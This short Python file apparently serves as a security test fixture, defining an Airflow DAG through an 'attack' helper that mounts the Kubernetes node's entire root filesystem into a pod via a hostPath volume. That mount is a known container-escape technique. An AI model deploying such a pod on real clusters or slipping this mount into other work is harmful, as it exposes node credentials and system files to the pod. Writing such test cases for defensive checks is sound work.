"""An Airflow DAG that mounts the root folder of the node."""

from __future__ import annotations

from attack_pods import attack
from kubernetes.client import models as k8s

root = k8s.V1HostPathVolumeSource(path="/")
dag = attack("attack_host_path", volumes=[k8s.V1Volume(name="node", host_path=root)])
